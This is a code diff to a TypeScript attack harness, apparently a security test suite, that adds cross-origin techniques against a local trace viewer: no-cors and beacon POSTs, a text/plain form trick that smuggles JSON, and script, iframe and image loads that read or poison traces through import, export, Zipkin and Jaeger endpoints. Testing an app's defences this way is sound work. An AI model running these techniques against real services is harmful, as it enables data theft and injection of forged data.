@@ -37,7 +37,21 @@ export const further = [
   'inspection',
   'profile',
   'source',
-  'runtime'
+  'runtime',
+  'import POST',
+  'import with the client header',
+  'import form',
+  'import beacon',
+  'export',
+  'export script',
+  'export frame',
+  'Zipkin POST',
+  'Zipkin beacon',
+  'Zipkin query',
+  'Zipkin script',
+  'Jaeger query',
+  'Jaeger script',
+  'Jaeger image'
 ] as const
 
 /** Runs in the attacker's page: everything that it needs must stand inside. */
@@ -64,6 +78,9 @@ export async function attack({ technique, url }: Attack): Promise<Loot> {
       }
     ]
   })
+  const zipkin = JSON.stringify([
+    { traceId: 'a'.repeat(16), id: 'b'.repeat(16), name: 'poisoned', timestamp: 1.7e15 }
+  ])
   const read = async (address: string, init?: RequestInit): Promise<Loot> => {
     try {
       const answer = await fetch(address, init)
@@ -115,11 +132,16 @@ export async function attack({ technique, url }: Attack): Promise<Loot> {
       return nothing
     }
   }
-  const form = async (): Promise<Loot> => {
+  const form = async (path: string, text: string): Promise<Loot> => {
     const frame = document.createElement('iframe')
     frame.name = 'sink'
     const one = document.createElement('form')
-    Object.assign(one, { method: 'post', action: `${url}api/clear`, target: 'sink' })
+    const action = `${url}${path}`
+    Object.assign(one, { method: 'post', action, target: 'sink', enctype: 'text/plain' })
+    // What is sent is the name, an equals sign and the value: with both it is JSON.
+    const field = document.createElement('input')
+    Object.assign(field, { name: text.slice(0, -1), value: text.slice(-1) })
+    one.append(field)
     document.body.append(frame, one)
     one.submit()
     await new Promise((resolve) => setTimeout(resolve, 300))
@@ -151,7 +173,7 @@ export async function attack({ technique, url }: Attack): Promise<Loot> {
     case 'event stream':
       return stream()
     case 'form POST':
-      return form()
+      return form('api/clear', '')
     case 'image':
       return element('img', (one) => (one.src = `${url}api/status`))
     case 'prefetch':
@@ -176,6 +198,40 @@ export async function attack({ technique, url }: Attack): Promise<Loot> {
       return read(`${url}api/traces/${'a'.repeat(32)}/spans/${'b'.repeat(16)}/source`)
     case 'runtime':
       return element('script', (one) => (one.src = `${url}api/traces/${'a'.repeat(32)}/runtime`))
+    case 'import POST':
+      return read(`${url}api/import`, { method: 'POST', mode: 'no-cors', body: spans })
+    case 'import with the client header':
+      return read(`${url}api/import`, {
+        method: 'POST',
+        headers: { 'x-spanlight': '1' },
+        body: spans
+      })
+    case 'import form':
+      return form('api/import', spans)
+    case 'import beacon':
+      navigator.sendBeacon(`${url}api/import`, spans)
+      return nothing
+    case 'export':
+      return read(`${url}api/export?format=jaeger`, { headers: { 'x-spanlight': '1' } })
+    case 'export script':
+      return element('script', (one) => (one.src = `${url}api/export?format=otlp`))
+    case 'export frame':
+      return element('iframe', (one) => (one.src = `${url}api/export?format=html`))
+    case 'Zipkin POST':
+      return read(`${url}api/v2/spans`, { method: 'POST', mode: 'no-cors', body: zipkin })
+    case 'Zipkin beacon':
+      navigator.sendBeacon(`${url}api/v2/spans`, new Blob([zipkin], { type: 'text/plain' }))
+      return nothing
+    case 'Zipkin query':
+      return read(`${url}api/v2/traces?limit=10`)
+    case 'Zipkin script':
+      return element('script', (one) => (one.src = `${url}api/v2/traces?limit=10`))
+    case 'Jaeger query':
+      return read(`${url}jaeger/api/traces?service=shop`, { mode: 'no-cors' })
+    case 'Jaeger script':
+      return element('script', (one) => (one.src = `${url}jaeger/api/traces?service=shop`))
+    case 'Jaeger image':
+      return element('img', (one) => (one.src = `${url}jaeger/api/services`))
     case 'worker':
       try {
         await navigator.serviceWorker.register(`${url}assets/app.js`)
